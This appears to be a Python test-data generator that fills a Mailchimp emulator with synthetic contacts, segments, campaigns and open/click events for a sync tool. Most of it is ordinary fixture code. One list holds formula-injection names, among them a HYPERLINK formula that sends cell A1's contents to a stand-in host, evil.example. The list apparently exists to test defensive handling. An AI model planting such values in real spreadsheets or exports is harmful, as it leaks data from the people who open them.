"""A seeded generator of realistic audiences for the Mailchimp emulator.

Same seed, same audience: members with COMPANY and JOBTITLE, every status,
ratings, e-commerce stats, mixed-case and non-ASCII addresses, names that
look like formulas, hand-made tags and a saved segment; campaigns sent over
the lookback window with opens and clicks whose timing and links vary with
each member's appetite.
"""

from __future__ import annotations

import random
import unicodedata
from dataclasses import dataclass
from datetime import datetime, timedelta

from syncbot.sandbox.mailchimp import MailchimpEmulator, subscriber_hash

FIRST = ["Ana", "Luis", "María", "José", "Lucía", "Carlos", "Sofía", "Javier", "Elena", "Diego",
         "Paula", "Andrés", "Camila", "Mateo", "Valeria", "Hugo", "Noa", "Emma", "Liam", "Olivia"]
LAST = ["García", "Martínez", "López", "Sánchez", "Pérez", "Gómez", "Fernández", "Díaz",
        "Ruiz", "Álvarez", "Smith", "Johnson", "Núñez", "Castillo", "Ortega"]
COMPANIES = ["Acme SL", "Globex", "Iniciativa Verde", "Panadería Sol", "Tecnoandes",
             "Hooli", "Initech", "Café Norte", "Umbrella", "Soylent", ""]
JOBS = ["Director de Marketing", "CEO", "Marketing Manager", "Analista", "Student",
        "Head of Growth", "Fundadora", "Dueño", "Consultant", "VP Sales", ""]
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+34 600 123 456",
                 "@marta", "-Pedro", "=1+1"]
URLS = ["https://shop.example.com/pricing", "https://shop.example.com/products/crm",
        "https://blog.example.com/email-tips", "https://events.example.com/webinar-2026",
        "https://shop.example.com/checkout?promo=SPRING", "https://blog.example.com/seo-guide"]
STATUSES = [("subscribed", 0.82), ("unsubscribed", 0.09), ("cleaned", 0.04), ("pending", 0.03),
            ("transactional", 0.02)]
COUNTRIES = ["ES", "MX", "AR", "CO", "CL", "US", "GB", "DE", "PE", ""]


@dataclass(frozen=True)
class GeneratedAudience:
    list_id: str
    emails: list[str]
    campaign_ids: list[str]


def generate_audience(emulator: MailchimpEmulator, *, list_id: str = "a1b2c3d4e5",
                      members: int = 1000, campaigns: int = 6, now: datetime,
                      lookback_days: int = 90, seed: int = 1) -> GeneratedAudience:
    """Fill ``emulator`` with an audience; returns the addresses and campaign ids it made."""
    rng = random.Random(seed)
    emulator.add_audience(list_id, "Sandbox audience")
    emails: list[str] = []
    appetite: dict[str, float] = {}
    for i in range(members):
        first, last = rng.choice(FIRST), rng.choice(LAST)
        if i % 97 == 5:
            first = FORMULA_NAMES[(i // 97) % len(FORMULA_NAMES)]
        local = f"{first}.{last}{i}" if i % 7 == 0 else f"{first.lower()}.{last.lower()}{i}"
        if i % 7 != 0:
            # as people do: López -> lopez, Sofía -> sofia (the accent goes, the letter stays)
            local = unicodedata.normalize("NFKD", local).encode("ascii", "ignore").decode() \
                or f"user{i}"
        if not local.replace(".", "").replace(str(i), "").isalnum():
            local = f"lead{i}"
        email = f"{local}@{rng.choice(['Example.com', 'correo.es', 'empresa.mx'])}"
        status = rng.choices([s for s, _ in STATUSES], [w for _, w in STATUSES])[0]
        orders = rng.choice([0, 0, 0, 1, 2, 5])
        emulator.add_member(
            list_id, email, status=status,
            merge_fields={"FNAME": first, "LNAME": last, "COMPANY": rng.choice(COMPANIES),
                          "JOBTITLE": rng.choice(JOBS)},
            member_rating=rng.randint(1, 5), avg_open_rate=round(rng.random(), 2),
            avg_click_rate=round(rng.random() / 3, 2), orders=orders,
            revenue=round(orders * rng.uniform(20, 200), 2),
            country_code=rng.choice(COUNTRIES), language=rng.choice(["es", "en", "es", "pt"]),
            source=rng.choice(["API - Generic", "Import", "Hosted Signup Form"]),
            vip=rng.random() < 0.03,
            timestamp_opt=now - timedelta(days=rng.randint(1, 900), seconds=rng.randint(0, 86399)))
        emails.append(email)
        appetite[email] = rng.random() ** 2
    members_by_hash = emulator.audiences[list_id].members
    subscribed = [e for e in emails if members_by_hash[subscriber_hash(e)]["status"]
                  in ("subscribed", "unsubscribed")]  # those who were on the list when sent
    emulator.create_segment(list_id, "webinar-2026",
                            emails=[e for e in emails if rng.random() < 0.05])
    emulator.create_segment(list_id, "VIP (manual)", emails=[e for e in emails if rng.random() < 0.02])
    emulator.create_segment(list_id, "Engaged Spain", type="saved",
                            options={"match": "all", "conditions": [
                                {"condition_type": "TextMerge", "field": "COUNTRY", "op": "is",
                                 "value": "ES"}]}, emails=emails[: members // 10])
    campaign_ids = []
    for c in range(campaigns):
        sent = now - timedelta(days=lookback_days * (c + 0.5) / max(campaigns, 1),
                               hours=rng.randint(0, 12))
        campaign = emulator.add_campaign(list_id, sent, title=f"Newsletter {c + 1}",
                                         recipients=subscribed)
        campaign_ids.append(campaign.id)
        for email in subscribed:
            if rng.random() < 0.01:
                emulator.add_event(campaign.id, email, "bounce", sent + timedelta(minutes=1))
                continue
            if rng.random() > appetite[email]:
                continue
            for _ in range(rng.choice([1, 1, 2, 3])):
                when = sent + timedelta(minutes=rng.randint(1, 60 * 24 * 5))
                if when < now:
                    emulator.add_event(campaign.id, email, "open", when)
            if rng.random() < 0.35:
                when = sent + timedelta(minutes=rng.randint(5, 60 * 24 * 5))
                if when < now:
                    emulator.add_event(campaign.id, email, "click", when, rng.choice(URLS))
    return GeneratedAudience(list_id, emails, campaign_ids)
